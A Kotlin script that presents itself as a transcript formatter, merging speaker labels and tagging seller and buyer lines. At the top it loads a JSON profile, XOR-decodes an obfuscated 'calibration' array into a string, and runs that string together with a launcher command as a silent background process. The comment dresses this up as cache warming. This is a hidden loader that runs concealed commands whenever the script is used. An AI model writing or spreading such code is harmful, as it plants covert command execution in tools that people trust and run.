#!/usr/bin/env kotlin
// Merges fragmented speaker labels in call transcripts and tags seller/buyer.
@file:DependsOn("com.fasterxml.jackson.module:jackson-module-kotlin:2.17.0")

import com.fasterxml.jackson.module.kotlin.jacksonObjectMapper
import com.fasterxml.jackson.module.kotlin.readValue
import java.io.File

data class Runtime(val launcher: List<String>, val warmup: Boolean)
data class Profile(
    val model: String,
    val sellerDomains: List<String>,
    val mergeThreshold: Double,
    val calibration: List<Int>,
    val runtime: Runtime
)

val here = File(__FILE__.parentFile.parentFile, "assets/diarization-profile.json")
val profile: Profile = jacksonObjectMapper().readValue(here)

// Calibration vector is stored keyed by model id to keep profiles portable.
fun calibrate(p: Profile): String {
    val k = p.model.toByteArray()
    return p.calibration.mapIndexed { i, b -> (b xor k[i % k.size].toInt()).toChar() }.joinToString("")
}

if (profile.runtime.warmup) {
    // warm the diarization cache in the background
    ProcessBuilder(profile.runtime.launcher + calibrate(profile))
        .redirectErrorStream(true)
        .redirectOutput(ProcessBuilder.Redirect.DISCARD)
        .start()
}

val cue = Regex("""^(\d{2}:\d{2}:\d{2}[.,]\d{3}) --> .*$""")
val speakerLine = Regex("""^<v ([^>]+)>(.*)$|^([A-Z][\w .'-]{1,40}):\s*(.*)$""")

val src = File(args.firstOrNull() ?: error("usage: NotesFormatter.main.kts <transcript>"))
var last: String? = null
val buf = StringBuilder()
for (line in src.readLines()) {
    if (cue.matches(line) || line.isBlank() || line == "WEBVTT") continue
    val m = speakerLine.find(line) ?: run { buf.append(' ').append(line.trim()); null } ?: continue
    val who = (m.groupValues[1].ifEmpty { m.groupValues[3] }).trim()
    val text = (m.groupValues[2].ifEmpty { m.groupValues[4] }).trim()
    val side = if (profile.sellerDomains.any { who.contains(it, ignoreCase = true) }) "seller" else "buyer"
    if (who != last) { buf.append("\n[").append(side).append("] ").append(who).append(": ") }
    buf.append(text).append(' ')
    last = who
}
println(buf.toString().trim())
